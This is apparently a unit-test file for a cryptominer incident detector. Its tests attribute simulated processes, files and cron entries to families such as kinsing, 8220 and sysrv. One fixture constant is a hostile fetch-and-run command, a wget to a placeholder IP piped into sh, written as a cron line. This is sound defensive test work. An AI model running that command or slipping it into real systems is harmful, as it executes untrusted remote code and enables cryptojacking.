"""Where several families have been on one host, an incident is named after the one that runs."""

from __future__ import annotations

from tests.unit.snapshots import cron, incident_of, judged, known_file, known_folder, process, snapshot

from davy.knowledge import families
from davy.model.facts import KnownFile
from davy.model.incidents import Incident, Kind

FETCH = "wget -q -O - http://203.0.113.9/unk.sh | sh > /dev/null 2>&1"


def files(of: Incident) -> list[str]:
    return [actor.path or "" for actor in of.actors if actor.kind is Kind.FILE]


def test_the_family_is_the_one_that_runs_not_the_one_that_left_more_behind() -> None:
    runs = process(300, "/tmp/dbused", cores=1.0)
    left = [known_file(path, "kinsing") for path in ("/tmp/kdevtmpfsi", "/var/tmp/kinsing", "/etc/libsystem.so")]
    facts = snapshot(runs, *left, cron("/var/tmp/kinsing", user="ada"), cron("/tmp/dbused"))
    running, dormant = sorted(judged(facts).incidents, key=lambda one: one.family or "")
    assert (running.family, files(running)) == ("8220", [])
    assert dormant.family == "kinsing", "its cron line starts it once a minute"


def test_the_family_s_own_remains_go_with_it_and_its_dummies_stay() -> None:
    runs = process(300, "/tmp/kdevtmpfsi", cores=1.0)
    dummy: list[KnownFile] = [
        known_file("/var/tmp/kdevtmpfsi", "kinsing", size=0, elf=False, mode=0o100644, immutable=True),
        known_folder("/etc/kinsing", "kinsing", immutable=True),
    ]
    found = incident_of(snapshot(runs, known_file("/var/tmp/kinsing", "kinsing"), *dummy))
    assert found.family == "kinsing"
    assert files(found) == ["/var/tmp/kinsing"]


def test_a_public_miner_is_named_after_the_family_that_guards_it() -> None:
    guard = process(299, "/tmp/kinsing", session=299)
    runs = process(300, "/tmp/xmrig", cores=1.0, ppid=299, session=299)
    assert incident_of(snapshot(guard, runs)).family == "kinsing"
    assert incident_of(snapshot(runs)).family == "xmrig-generic"


def test_an_ordinary_word_names_no_family() -> None:
    assert incident_of(snapshot(process(300, "/tmp/trace", cores=1.0))).family is None
    assert incident_of(snapshot(process(300, "/tmp/.solr/solrd", cores=1.0))).family == "z0miner", "two of them do"


def test_a_file_that_another_gang_runs_does_not_lie_about() -> None:
    facts = snapshot(
        process(300, "/tmp/dbused", cores=1.0),
        process(400, "/usr/bin/pamdicks", cores=1.0, exe="/usr/bin/pamdicks"),
        known_file("/usr/bin/pamdicks", "skidmap"),
        known_file("/tmp/dbused", "8220"),
    )
    found = judged(facts)
    assert [files(one) for one in found.incidents if files(one)] == []
    assert "file:/tmp/dbused" not in {row.findings[0].subject for row in found.considered}


def test_a_line_names_the_family_of_what_bears_no_name() -> None:
    runs = process(300, "/tmp/abcd", cores=1.0)
    assert incident_of(snapshot(runs, cron(FETCH))).family == "kinsing"


def test_two_families_that_run_are_two_incidents_each_with_its_own_name() -> None:
    found = judged(snapshot(process(300, "/tmp/dbused", cores=1.0), process(400, "/tmp/kdevtmpfsi", cores=1.0)))
    assert {one.family for one in found.incidents} == {"8220", "kinsing"}


def test_a_wallet_names_the_family_that_was_seen_to_be_paid_there() -> None:
    wallet = next(family.wallets[0] for family in families() if family.id == "sysrv")
    runs = process(300, "/tmp/abcd", "-o", "stratum+tcp://192.0.2.1:3333", "-u", f"{wallet}.worker", cores=1.0)
    assert incident_of(snapshot(runs)).family == "sysrv"
